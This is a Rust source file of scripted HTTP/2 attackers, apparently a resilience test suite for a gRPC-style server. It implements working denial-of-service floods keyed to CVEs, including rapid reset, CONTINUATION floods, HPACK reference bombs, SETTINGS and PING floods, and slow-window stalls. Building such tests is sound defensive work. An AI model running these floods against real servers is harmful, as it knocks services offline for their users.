//! Attackers that speak HTTP/2: each repeats one thing as often as it may. The rows are those of the catalogue in
//! docs/attacks.md.

use super::Script;
use super::wire::{
    END_HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, PADDED, PATH, Wire, block_of, call_fields, integer,
    kind, literal, message,
};

/// What a flood repeats.
const FLOOD: u32 = 100_000;

/// The stream of the unit with this number.
const fn nth(number: u32) -> u32 {
    2 * number + 1
}

fn plain() -> Wire {
    let mut wire = Wire::http2(&[]);
    wire.settings_ack();
    wire
}

/// An opening with one call whose request goes on.
fn with_a_call() -> Wire {
    let mut wire = plain();
    wire.call(1, false);
    wire
}

/// Every script that floods a server.
#[must_use]
pub fn floods() -> Vec<Script> {
    [
        vec![rapid_reset(), rapid_reset_of_headers(), refused_streams()],
        made_you_reset(),
        vec![empty_continuations(), full_continuations()],
        vec![indexed_bomb(), field_crumbs(), nameless_fields(), table_flips()],
        vec![
            settings_flood(),
            ping_flood(),
            full_settings_flood(),
            settings_flood().deaf("SETTINGS, unread"),
            ping_flood().deaf("PING, unread"),
        ],
        vec![empty_data(), padded_data(), one_octet_data(), one_octet_data_of_a_message()],
        vec![priority_flood(), window_updates(), unknown_frames(), stray_acks()],
        vec![slow_window()],
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// A1: a whole unary call, cancelled at once (CVE-2023-44487).
#[must_use]
pub fn rapid_reset() -> Script {
    Script::new("A1", "rapid reset", plain(), FLOOD, |wire, number| {
        wire.call(nth(number), false).data(nth(number), &message(b"x"), true).reset(nth(number));
    })
}

/// A1: a head, cancelled at once.
#[must_use]
pub fn rapid_reset_of_headers() -> Script {
    Script::new("A1", "rapid reset of heads", plain(), FLOOD, |wire, number| {
        wire.call(nth(number), false).reset(nth(number));
    })
}

/// A2: streams above the limit, each of which has to be refused.
#[must_use]
pub fn refused_streams() -> Script {
    Script::new("A2", "streams above the limit", plain(), FLOOD, |wire, number| {
        wire.call(nth(number), false);
    })
}

/// A2: what makes a server reset a stream of its own (CVE-2025-8671), one script a trigger.
#[must_use]
pub fn made_you_reset() -> Vec<Script> {
    let trigger = |name, write: fn(&mut Wire, u32)| {
        Script::new("A2", name, plain(), FLOOD, move |wire, number| write(wire, nth(number)))
    };
    vec![
        trigger("WINDOW_UPDATE of 0", |wire, stream| {
            wire.call(stream, false).window_update(stream, 0);
        }),
        trigger("stream window overflow", |wire, stream| {
            wire.call(stream, false).window_update(stream, 0x7fff_ffff);
        }),
        trigger("DATA after the end", |wire, stream| {
            wire.call(stream, true).data(stream, b"x", true);
        }),
        trigger("HEADERS after the end", |wire, stream| {
            wire.call(stream, true).call(stream, true);
        }),
        trigger("PRIORITY of 4 octets", |wire, stream| {
            wire.call(stream, false).frame(kind::PRIORITY, 0, stream, &[0; 4]);
        }),
        trigger("PRIORITY on itself", |wire, stream| {
            let fields = [&stream.to_be_bytes()[..], &[16]].concat();
            wire.call(stream, false).frame(kind::PRIORITY, 0, stream, &fields);
        }),
        trigger("content-length that lies", |wire, stream| {
            let mut fields = call_fields(PATH);
            fields.push(("content-length", "5"));
            wire.block(stream, &block_of(&fields), false).data(stream, b"x", true);
        }),
        trigger("a malformed head", |wire, stream| {
            wire.block(stream, &block_of(&[(":method", "POST"), ("Upper", "x")]), false);
        }),
        Script::new("A2", "WINDOW_UPDATE of 0", plain(), FLOOD, |wire, number| {
            wire.call(nth(number), false).window_update(nth(number), 0);
        })
        .deaf("WINDOW_UPDATE of 0, unread"),
    ]
}

/// A3: a header block that never ends, of frames without octets (CVE-2026-33871).
#[must_use]
pub fn empty_continuations() -> Script {
    Script::new("A3", "empty CONTINUATION", plain(), FLOOD, |wire, number| {
        let kind = if number == 0 { kind::HEADERS } else { kind::CONTINUATION };
        wire.frame(kind, 0, 1, &[]);
    })
}

/// A3: the same of full frames (CVE-2024-27316 and its kin).
#[must_use]
pub fn full_continuations() -> Script {
    let part: Vec<u8> = block_of(&[("x", &"y".repeat(120))]).repeat(16_000 / 125);
    Script::new("A3", "full CONTINUATION", plain(), 10_000, move |wire, number| {
        let kind = if number == 0 { kind::HEADERS } else { kind::CONTINUATION };
        wire.frame(kind, 0, 1, &part);
    })
}

/// A4: heads of one-octet references to a long field, with a window of 0 so that no answer can end (CVE-2016-6581 and the
/// HTTP/2 bombs of 2026): within a server's usual limits, so that each is a call.
#[must_use]
pub fn indexed_bomb() -> Script {
    let mut opening = Wire::http2(&[(INITIAL_WINDOW_SIZE, 0)]);
    opening.settings_ack();
    let value = "x".repeat(3_600);
    Script::new("A4", "references to a long field", opening, 1_000, move |wire, number| {
        let mut block = block_of(&call_fields(PATH));
        if number == 0 {
            literal(&mut block, 0x40, b"bomb", value.as_bytes());
        }
        // RFC 7541 §2.3.3: 62 is the newest entry of the dynamic table.
        let references = if number == 0 { 2 } else { 4 };
        block.extend(std::iter::repeat_n(0xbe, references));
        wire.block(nth(number), &block, false).data(nth(number), &message(b"x"), false);
    })
}

/// A4: as many short fields as a list may have, each an octet on the wire (the cookie crumbs of CVE-2026-47774).
#[must_use]
pub fn field_crumbs() -> Script {
    let mut opening = Wire::http2(&[(INITIAL_WINDOW_SIZE, 0)]);
    opening.settings_ack();
    Script::new("A4", "crumbs of one octet", opening, 1_000, move |wire, number| {
        let mut block = block_of(&call_fields(PATH));
        if number == 0 {
            literal(&mut block, 0x40, b"cookie", &[b'c'; 80]);
        }
        block.extend(std::iter::repeat_n(0xbe, 120));
        wire.block(nth(number), &block, false).data(nth(number), &message(b"x"), false);
    })
}

/// A11: fields without a name (CVE-2019-9516).
#[must_use]
pub fn nameless_fields() -> Script {
    Script::new("A11", "fields without a name", plain(), FLOOD, |wire, number| {
        let mut block = block_of(&call_fields(PATH));
        (0..100).for_each(|_| literal(&mut block, 0x00, b"", b""));
        wire.block(nth(number), &block, true);
    })
}

/// A7: the size of the header table, turned to and fro.
#[must_use]
pub fn table_flips() -> Script {
    Script::new("A7", "table size flips", plain(), FLOOD, |wire, number| {
        let size = if number % 2 == 0 { 0 } else { 4096 };
        let mut block = Vec::new();
        integer(&mut block, 0x20, 5, 0);
        integer(&mut block, 0x20, 5, size);
        block.extend(block_of(&call_fields(PATH)));
        wire.settings(&[(HEADER_TABLE_SIZE, size)]).block(nth(number), &block, false);
        wire.reset(nth(number));
    })
}

/// A8: SETTINGS, each of which asks for an acknowledgement (CVE-2019-9515).
#[must_use]
pub fn settings_flood() -> Script {
    Script::new("A8", "SETTINGS", plain(), FLOOD, |wire, _| {
        wire.settings(&[]);
    })
}

/// A8: SETTINGS of as many entries as fit (CVE-2020-11080).
#[must_use]
pub fn full_settings_flood() -> Script {
    let pairs: Vec<(u16, u32)> = (0..2_730).map(|index| (INITIAL_WINDOW_SIZE, 65_535 + index % 2)).collect();
    Script::new("A8", "SETTINGS of 2,730 entries", plain(), 3_000, move |wire, _| {
        wire.settings(&pairs);
    })
}

/// A8: PING (CVE-2019-9512).
#[must_use]
pub fn ping_flood() -> Script {
    Script::new("A8", "PING", plain(), FLOOD, |wire, number| {
        wire.ping(number);
    })
}

/// A9: DATA without an octet (CVE-2019-9518).
#[must_use]
pub fn empty_data() -> Script {
    Script::new("A9", "empty DATA", with_a_call(), FLOOD, |wire, _| {
        wire.data(1, &[], false);
    })
}

/// A9: DATA of padding alone.
#[must_use]
pub fn padded_data() -> Script {
    Script::new("A9", "DATA of padding", with_a_call(), FLOOD, |wire, _| {
        wire.frame(kind::DATA, PADDED, 1, &[3, 0, 0, 0]);
    })
}

/// A9: a long message in DATA of one octet (CVE-2019-9511's kin).
#[must_use]
pub fn one_octet_data_of_a_message() -> Script {
    let mut opening = with_a_call();
    opening.data(1, &[0, 0, 0x3f, 0xff, 0xff], false);
    Script::new("A9", "a message in DATA of 1 octet", opening, 60_000, |wire, _| {
        wire.data(1, b"x", false);
    })
}

/// A9: the shortest messages, each in a frame of its own, of a call that streams.
#[must_use]
pub fn one_octet_data() -> Script {
    let mut opening = plain();
    opening.block(1, &block_of(&call_fields("/attacks.Victim/Deaf")), false);
    Script::new("A9", "messages of 1 octet, unread", opening, 60_000, |wire, _| {
        wire.data(1, &message(b"x"), false);
    })
}

/// A10: PRIORITY for streams that never open (CVE-2019-9513).
#[must_use]
pub fn priority_flood() -> Script {
    Script::new("A10", "PRIORITY", with_a_call(), FLOOD, |wire, number| {
        wire.frame(kind::PRIORITY, 0, nth(number) + 2, &[0, 0, 0, 1, 9]);
    })
}

/// A10: windows opened octet by octet.
#[must_use]
pub fn window_updates() -> Script {
    Script::new("A10", "WINDOW_UPDATE of 1", with_a_call(), FLOOD, |wire, _| {
        wire.window_update(0, 1);
    })
}

/// A10: answers that may leave an octet at a time (CVE-2019-9511, -9517).
#[must_use]
pub fn slow_window() -> Script {
    let mut opening = Wire::http2(&[(INITIAL_WINDOW_SIZE, 0)]);
    opening.settings_ack();
    for stream in (1..200).step_by(2) {
        opening.call(stream, false).data(stream, &message(&[b'x'; 1_000]), true);
    }
    Script::new("A10", "answers dribbled out", opening, FLOOD, |wire, number| {
        wire.window_update(2 * (number % 100) + 1, 1);
    })
}

/// A13: frames of types that nobody knows.
#[must_use]
pub fn unknown_frames() -> Script {
    Script::new("A13", "unknown frames", plain(), FLOOD, |wire, number| {
        wire.frame(0x0a + (number % 240) as u8, number as u8, 0, &[0; 8]);
    })
}

/// A13: acknowledgements that nobody asked for.
#[must_use]
pub fn stray_acks() -> Script {
    Script::new("A13", "PING with ACK", plain(), FLOOD, |wire, number| {
        wire.frame(kind::PING, 1, 0, &u64::from(number).to_be_bytes());
    })
}

/// A12: a window that overflows, which must end its connection.
#[must_use]
pub fn window_overflow() -> Script {
    Script::new("A12", "connection window overflow", plain(), 2, |wire, _| {
        wire.window_update(0, 0x7fff_ffff);
    })
}

/// A23: calls that each announce a message of 4 MiB and send an octet of it.
#[must_use]
pub fn announced_messages() -> Script {
    Script::new("A23", "announces 4 MiB, sends 1 octet", plain(), 1_000, |wire, number| {
        wire.call(nth(number), false).data(nth(number), &[0, 0, 0x3f, 0xff, 0xff, 7], false);
    })
}

/// A23: long messages that never end, on as many calls as there may be.
#[must_use]
pub fn unfinished_messages() -> Script {
    let mut opening = plain();
    for stream in (1..512).step_by(2) {
        opening.call(stream, false).data(stream, &[0, 0, 0x3f, 0xff, 0xff], false);
    }
    Script::new("A23", "long messages without end", opening, 60_000, |wire, number| {
        wire.data(2 * (number % 256) + 1, &[7; 16_384], false);
    })
}

/// A half of a header block, for stalls.
#[must_use]
pub fn half_a_head() -> Vec<u8> {
    let mut wire = plain();
    let block = block_of(&call_fields(PATH));
    wire.head(kind::HEADERS, END_HEADERS, 1, block.len() as u32).raw(&block[..20]);
    wire.take()
}
